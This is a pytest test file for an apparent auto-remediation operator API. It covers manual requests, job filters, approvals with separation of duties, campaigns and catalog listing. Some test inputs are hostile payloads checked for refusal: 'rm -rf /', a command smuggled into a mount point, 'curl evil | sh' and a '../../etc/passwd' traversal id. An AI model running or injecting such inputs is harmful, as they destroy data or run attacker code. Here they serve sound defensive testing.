"""The operator API: manual requests, reading jobs, approvals, the catalog."""

from __future__ import annotations

from typing import Any

import pytest

from autoremediation import jobs
from tests.functions.conftest import OLGA_OID, OMAR, OMAR_OID, Engine, call, http, json_of, sample, vm_id


def request_body(**changes: Any) -> dict[str, Any]:
    body = sample("manual-request.json")
    body.update(changes)
    return body


def create(body: Any, headers: dict[str, str] | None = None) -> Any:
    return call("remediations_create", http("POST", "remediations", body, headers=headers))


def get(job_id: str) -> Any:
    return call("remediations_get", http("GET", f"remediations/{job_id}", route_params={"id": job_id}))


def listing(**params: str) -> Any:
    return call("remediations_list", http("GET", "remediations", params=params))


def decide(verb: str, job_id: str, body: Any = None, headers: dict[str, str] | None = None) -> Any:
    """Omar decides (requests come from Olga): separation of duties holds."""
    return call(
        f"remediations_{verb}",
        http(
            "POST",
            f"remediations/{job_id}/{verb}",
            body,
            route_params={"id": job_id},
            headers=headers or OMAR,
        ),
    )


def awaiting_approval(engine: Engine) -> str:
    """A restore-management-access job (approval required) that the worker parked for an operator."""
    response = create(
        request_body(remediation="restore-management-access", parameters={}, requestId="ops-approve-1")
    )
    job_id: str = json_of(response)["jobIds"][0]
    engine.queued()
    engine.deliver(job_id)
    assert engine.store.get(job_id).status == jobs.AWAITING_APPROVAL
    return job_id


def test_a_manual_request_makes_a_job_and_points_at_it(engine: Engine) -> None:
    response = create(request_body())

    assert response.status_code == 202
    body = json_of(response)
    [job_id] = body["jobIds"]
    assert response.headers["Location"] == f"/api/remediations/{job_id}"
    assert engine.queued() == [job_id]
    shown = json_of(get(job_id))
    assert shown["status"] == jobs.PLANNED
    assert shown["remediation"] == "free-disk-space"
    assert shown["parameters"]["mountPoint"] == "/var"


def test_the_requester_on_record_is_the_caller_not_the_body(engine: Engine) -> None:
    body = json_of(create(request_body(requestedBy="somebody-else")))

    job = engine.store.get(body["jobIds"][0])

    assert job.requested_by == OLGA_OID
    assert job.requested_by_name == "olga@contoso.com"


def test_the_same_request_id_twice_makes_one_job(engine: Engine) -> None:
    first = json_of(create(request_body()))
    second = create(request_body())

    assert second.status_code == 202
    assert json_of(second)["jobIds"] == first["jobIds"]
    assert len(engine.store.list()) == 1


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"parameters": {"mountPoint": "/var; rm -rf /"}}, "mountPoint"),
        ({"parameters": {"script": "rm -rf /"}}, "script"),
        ({"script": "curl evil | sh"}, "unknown field 'script'"),
        ({"remediation": "no-such-thing"}, "unknown remediation"),
        ({"targets": ["/subscriptions/x/resourceGroups/y"]}, "not a VM resource id"),
        ({"dryRun": "yes"}, "dryRun"),
    ],
)
def test_requests_outside_the_catalog_are_refused_with_the_reason(
    engine: Engine, changes: dict[str, Any], reason: str
) -> None:
    response = create(request_body(**changes))

    assert response.status_code == 400
    assert reason in json_of(response)["error"]
    assert engine.store.list() == []
    assert engine.queued() == []


def test_a_request_for_more_vms_than_one_call_should_carry_is_refused(engine: Engine) -> None:
    targets = [vm_id(f"vm-{n}") for n in range(51)]

    response = create(request_body(targets=targets))

    assert response.status_code == 400
    assert "campaign" in json_of(response)["error"]
    assert engine.store.list() == []
    assert create(request_body(targets=targets[:50])).status_code == 202


def test_an_alert_posted_as_a_manual_request_is_refused(engine: Engine) -> None:
    response = create(sample("disk-full-alert.json"))

    assert response.status_code == 400
    assert engine.store.list() == []


def test_an_unknown_job_is_404(engine: Engine) -> None:
    for job_id in ("job-000000000000000000000000", "../../etc/passwd"):
        response = get(job_id)
        assert response.status_code == 404
        assert "error" in json_of(response)


def test_list_filters_by_status_target_and_limit(engine: Engine) -> None:
    create(request_body())
    create(request_body(requestId="ops-2", targets=[vm_id("vm-linux-locked")]))

    everything = json_of(listing())
    planned_locked = json_of(listing(status="planned,running", target=vm_id("vm-linux-locked").upper()))
    one = json_of(listing(limit="1"))
    none = json_of(listing(status="succeeded"))

    assert everything["count"] == 2
    assert [j["target"] for j in planned_locked["jobs"]] == [vm_id("vm-linux-locked")]
    assert one["count"] == 1
    assert none == {"jobs": [], "count": 0}


@pytest.mark.parametrize(
    ("params", "reason"),
    [
        ({"status": "done"}, "status"),
        ({"limit": "0"}, "limit"),
        ({"limit": "ten"}, "limit"),
        ({"limit": "100000"}, "limit"),
        ({"since": "yesterday"}, "since"),
        ({"since": "2026-01-01T00:00:00"}, "time zone"),
        ({"target": "vm-1"}, "target"),
        ({"remediation": "Free Disk"}, "remediation"),
        ({"owner": "me"}, "unknown filter"),
    ],
)
def test_bad_list_filters_are_400(engine: Engine, params: dict[str, str], reason: str) -> None:
    response = listing(**params)

    assert response.status_code == 400
    assert reason in json_of(response)["error"]


def test_the_function_key_in_the_query_is_not_a_filter(engine: Engine) -> None:
    create(request_body())

    assert json_of(listing(code="secret-key", since="2000-01-01T00:00:00Z"))["count"] == 1


def test_approve_wakes_the_worker_and_is_on_record(engine: Engine) -> None:
    job_id = awaiting_approval(engine)

    response = decide("approve", job_id, {"reason": "change CHG-1"})

    assert response.status_code == 200
    job = json_of(response)
    assert job["approvedBy"] == OMAR_OID
    assert job["review"]["decision"] == "approved"
    assert job["review"]["by"] == OMAR_OID and job["review"]["name"] == "omar@contoso.com"
    assert job["review"]["reason"] == "change CHG-1"
    assert job["review"]["at"] == engine.clock.now().isoformat()
    assert any(f"approved by omar@contoso.com ({OMAR_OID}): change CHG-1" in n for n in job["notes"])
    assert engine.queued() == [job_id]


def test_reject_cancels_the_job(engine: Engine) -> None:
    job_id = awaiting_approval(engine)

    response = decide("reject", job_id, {"reason": "not during the sale"})

    assert response.status_code == 200
    assert json_of(response)["status"] == jobs.CANCELLED
    job = engine.store.get(job_id)
    assert job.status == jobs.CANCELLED
    assert job.review == {
        "decision": "rejected",
        "by": OMAR_OID,
        "name": "omar@contoso.com",
        "at": engine.clock.now().isoformat(),
        "reason": "not during the sale",
    }
    assert job.history[-1].actor == OMAR_OID


@pytest.mark.parametrize("verb", ["approve", "reject"])
@pytest.mark.parametrize("body", [None, {}, {"reason": "   "}])
def test_a_decision_without_a_reason_is_refused(engine: Engine, verb: str, body: Any) -> None:
    job_id = awaiting_approval(engine)

    response = decide(verb, job_id, body)

    assert response.status_code == 400
    assert "reason" in json_of(response)["error"] or "why" in json_of(response)["error"]
    assert engine.store.get(job_id).status == jobs.AWAITING_APPROVAL
    assert engine.store.get(job_id).review == {}


def test_deciding_on_a_job_that_is_not_awaiting_approval_is_409_with_the_reason(engine: Engine) -> None:
    job_id = json_of(create(request_body()))["jobIds"][0]

    for verb in ("approve", "reject"):
        response = decide(verb, job_id, {"reason": "ok"})
        assert response.status_code == 409
        assert "planned, not awaiting approval" in json_of(response)["error"]


def test_deciding_on_an_unknown_job_is_404_and_a_bad_body_400(engine: Engine) -> None:
    assert decide("approve", "job-000000000000000000000000", {"reason": "ok"}).status_code == 404
    job_id = awaiting_approval(engine)
    assert decide("approve", job_id, {"reason": 5}).status_code == 400
    assert decide("reject", job_id, {"why": "x"}).status_code == 400
    assert engine.store.get(job_id).status == jobs.AWAITING_APPROVAL


def test_the_catalog_lists_remediations_and_their_parameters(engine: Engine) -> None:
    response = call("catalog", http("GET", "catalog"))

    assert response.status_code == 200
    entries = {e["id"]: e for e in json_of(response)["remediations"]}
    assert "free-disk-space" in entries
    assert "pattern" in entries["free-disk-space"]["parameters"]["mountPoint"]
    assert entries["restore-management-access"]["approvalRequired"] is True


def test_health_is_ok_with_the_catalog(engine: Engine) -> None:
    response = call("health", http("GET", "health"))

    assert response.status_code == 200
    assert "free-disk-space" in json_of(response)["remediations"]


def test_a_campaign_is_started_and_read_back_through_the_api(engine: Engine) -> None:
    request = {
        "id": "c-disks",
        "remediation": "free-disk-space",
        "targets": {"vmIds": [vm_id("vm-linux-disk"), vm_id("vm-linux-locked")]},
        "parameters": {"mountPoint": "/var"},
        "maxConcurrency": 1,
        "maxErrors": 0,
        "reason": "monthly clean-up",
    }

    created = call("campaigns_create", http("POST", "campaigns", request))
    shown = call("campaigns_get", http("GET", "campaigns/c-disks", route_params={"id": "c-disks"}))
    unknown = call("campaigns_get", http("GET", "campaigns/c-none", route_params={"id": "c-none"}))
    bad = call("campaigns_create", http("POST", "campaigns", {**request, "script": "x"}))

    assert created.status_code == 202
    assert created.headers["Location"] == "/api/campaigns/c-disks"
    assert shown.status_code == 200
    assert json_of(shown)["id"] == "c-disks"
    assert json_of(shown)["requestedBy"] == OLGA_OID
    assert json_of(shown)["requestedByName"] == "olga@contoso.com"
    assert {j.requested_by_name for j in engine.store.list(campaign_id="c-disks")} == {"olga@contoso.com"}
    assert len(engine.store.list(campaign_id="c-disks")) == 2
    assert unknown.status_code == 404
    assert bad.status_code == 400


def test_a_campaign_job_that_ends_releases_the_next_one(engine: Engine) -> None:
    request = {
        "id": "c-waves",
        "remediation": "free-disk-space",
        "targets": {"vmIds": [vm_id("vm-linux-disk"), vm_id("vm-linux-locked")]},
        "maxConcurrency": 1,
        "maxErrors": 0,
    }
    assert call("campaigns_create", http("POST", "campaigns", request)).status_code == 202
    [first] = engine.queued()

    for _ in range(10):  # one message per step, until the first job ends
        engine.deliver(first)
        engine.clock.advance(60)
        due = engine.queued()
        if first not in due:
            break

    assert engine.store.get(first).status == jobs.SUCCEEDED
    [second] = due
    assert second != first
    assert engine.store.get(second).campaign_id == "c-waves"


def test_rejecting_a_campaign_job_releases_the_next_one_at_once(engine: Engine) -> None:
    request = {
        "id": "c-access",
        "remediation": "restore-management-access",
        "targets": {"vmIds": [vm_id("vm-linux-disk"), vm_id("vm-linux-locked")]},
        "maxConcurrency": 1,
        "maxErrors": 0,
    }
    assert call("campaigns_create", http("POST", "campaigns", request)).status_code == 202
    [first] = engine.queued()
    engine.deliver(first)
    assert engine.store.get(first).status == jobs.AWAITING_APPROVAL
    assert engine.queued() == []  # the slot is held while an operator decides

    assert decide("reject", first, {"reason": "not this one"}).status_code == 200

    [second] = engine.queued()
    assert second == engine.store.get(first).releases
    assert engine.store.get(second).campaign_id == "c-access"


def test_plan_shows_what_an_alert_would_do_and_writes_nothing(engine: Engine) -> None:
    response = call("plan", http("POST", "plan", sample("disk-full-alert.json")))

    assert response.status_code == 200
    [plan] = json_of(response)["plans"]
    assert (plan["remediation"], plan["decision"]) == ("free-disk-space", "dispatch")
    assert engine.store.list() == []
    assert engine.queued() == []
    bad = call("plan", http("POST", "plan", {"schemaId": "azureMonitorCommonAlertSchema"}))
    assert bad.status_code == 400


def test_a_request_without_id_or_dry_run_gets_an_id_it_can_send_again(engine: Engine) -> None:
    body = request_body()
    del body["requestId"], body["dryRun"]
    first = json_of(create(body))
    [job_id] = first["jobIds"]
    [signal] = first["signals"]
    assert signal["id"].startswith("req-")
    shown = json_of(get(job_id))
    assert shown["dryRun"] is False and shown["outcomeKind"] == "planned"
    assert "created_at" not in shown and shown["createdAt"]
    # The id it was given makes a repeat a duplicate; without it, a second request is a new job.
    again = json_of(create({**body, "requestId": signal["id"]}))
    assert again["jobIds"] == [job_id]
    assert json_of(create(body))["jobIds"] != [job_id]
